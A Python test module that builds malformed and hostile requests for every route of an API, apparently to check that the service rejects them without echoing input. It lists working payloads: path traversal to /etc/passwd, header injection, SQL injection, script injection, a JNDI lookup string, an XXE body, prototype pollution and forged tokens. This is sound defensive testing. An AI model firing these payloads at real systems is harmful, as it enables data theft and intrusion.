"""Requests that nobody sends by accident: path tricks, odd numbers, look-alikes, header injection, deep JSON, names of
prototypes; for every route, in every place where a caller may write something.
"""

import itertools
import json
from collections.abc import Iterator, Sequence
from typing import Any, NamedTuple

from shared.api.route import Route

STRANGE_ID = "a" * 26

TEXTS = (
    "../../etc/passwd",
    "..%2f..%2f",
    "%2e%2e/",
    "....//",
    "%00",
    "x\x00y",
    "\r\nSet-Cookie: a=b",
    "%0d%0aX-Injected: 1",
    "__proto__",
    "constructor.prototype",
    "toString",
    "__class__.__mro__",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "' OR '1'='1",
    '"; DROP TABLE documents; --',
    "<script>alert(1)</script>",
    "=HYPERLINK(1)",
    "аааааааааааааааааааааааааа",  # Cyrillic look-alikes of an id
    "ａ" * 26,
    "\u202eid",
    "\ufeff",
    "e\u0301" * 20,
    "👩‍💻" * 20,
    "\ud800",
    "ß" * 300,
    "a" * 5_000,
    "-1",
    "0",
    "1e999",
    "9" * 400,
    "9223372036854775808",
    "NaN",
    "Infinity",
    "true",
    "null",
    "[]",
    "{}",
    "2026-02-30",
    "9999-12-31",
    "0000-00-00",
    ".",
    "..",
    "__x__",
    "/",
    " ",
    "",
)

VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    0,
    2**63,
    -(2**63) - 1,
    1e308,
    0.1,
    [],
    {},
    [[[[]]]],
    {"__proto__": {"admin": True}},
    {"$ne": None},
    ["x"] * 300,
    *TEXTS[:34],
)

BODIES = (
    b"",
    b" ",
    b"{",
    b"[]",
    b"null",
    b"true",
    b'"x"',
    b"NaN",
    b'{"a":1,"a":2}',
    b'{"__proto__":{"role":"owner"}}',
    b'{"a":1e999}',
    b'{"a":' + b"9" * 5_000 + b"}",
    b"[" * 10_000 + b"]" * 10_000,
    b'{"a":' * 200 + b"1" + b"}" * 200,
    b'{"a":"\\ud800"}',
    b'{"a":"\\u0000"}',
    b'\xff\xfe{"\x00a\x00',
    b"\xef\xbb\xbf{}",
    b"\x80\x81\x82",
    b"a=1&b=2",
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    b"{}" + b" " * 70_000,
)

HEADERS = (
    "X-Workspace",
    "Idempotency-Key",
    "If-Match",
    "Accept-Language",
    "X-Forwarded-For",
    "traceparent",
    "User-Agent",
)
CREDENTIALS = (
    "",
    "Bearer",
    "Bearer ",
    "Bearer x",
    "Basic YTpi",
    "Bearer rtk_a_b_c",
    "Bearer rtk_" + "_".join((STRANGE_ID, STRANGE_ID, "a" * 52)),
    "Bearer rtk_../../x_" + STRANGE_ID,
    "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJvd25lciJ9.",
    "Bearer " + "a" * 9_000,
    "Bearer a.b.c",
    "bearer \x00",
)
TYPES = ("text/plain", "application/xml", "application/json; charset=utf-16", "multipart/form-data", "x" * 300, "")


class Attack(NamedTuple):
    """One request. `value` is what must never come back in a refusal; None where there is nothing to look for."""

    method: str
    path: str
    query: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes | None = None
    value: str | None = None
    signed_in: bool = True


def attacks(routes: Sequence[Route], document: dict[str, Any]) -> Iterator[Attack]:
    """Every case, route by route."""
    for route in routes:
        operation = document["paths"][route.template][route.method.lower()]
        yield from _in_path(route)
        yield from _in_query(route, operation)
        yield from _in_headers(route)
        if route.model("body") is not None:
            yield from _in_body(route, operation, document)


def _plain(route: Route) -> str:
    return _filled(route, STRANGE_ID)


def _filled(route: Route, value: str) -> str:
    parts = [value if part.startswith("<") else part for part in route.path.split("/")]
    return "/".join(parts)


def _in_path(route: Route) -> Iterator[Attack]:
    if "<" in route.path:
        for text in TEXTS:
            yield Attack(route.method, _filled(route, text), body=_empty(route), value=text)


def _in_query(route: Route, operation: dict[str, Any]) -> Iterator[Attack]:
    names = [one["name"] for one in operation.get("parameters", []) if one.get("in") == "query"]
    for name, text in itertools.product([*names, "nothing"], TEXTS):
        query = f"{name}={_quoted(text)}"
        yield Attack(route.method, _plain(route), query, body=_empty(route), value=text)
    for query in ("&&&", "=", "limit=1&limit=2", "%", "%ff=%ff", "a" * 3_000):
        yield Attack(route.method, _plain(route), query, body=_empty(route))


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode("utf-8", "surrogatepass"))


def _in_headers(route: Route) -> Iterator[Attack]:
    for name, text in itertools.product(HEADERS, TEXTS[::3]):
        yield Attack(route.method, _plain(route), headers=((name, text),), body=_empty(route), value=text)
    for credential in CREDENTIALS:
        yield Attack(
            route.method, _plain(route), headers=(("Authorization", credential),), body=_empty(route), signed_in=False
        )
    for kind in TYPES:
        yield Attack(route.method, _plain(route), headers=(("Content-Type", kind),), body=_empty(route))


def _in_body(route: Route, operation: dict[str, Any], document: dict[str, Any]) -> Iterator[Attack]:
    for body in BODIES:
        yield Attack(route.method, _plain(route), body=body)
    content = operation.get("requestBody", {}).get("content", {})
    reference = content.get("application/json", {}).get("schema", {}).get("$ref", "")
    schema = document["components"]["schemas"].get(reference.rpartition("/")[2], {})
    for name, value in itertools.product([*schema.get("properties", {}), "__proto__"], VALUES):
        text = value if isinstance(value, str) and value != name else None  # a pointer may name the field
        yield Attack(route.method, _plain(route), body=json.dumps({name: value}).encode(), value=text)


def _empty(route: Route) -> bytes | None:
    return b"{}" if route.model("body") is not None else None
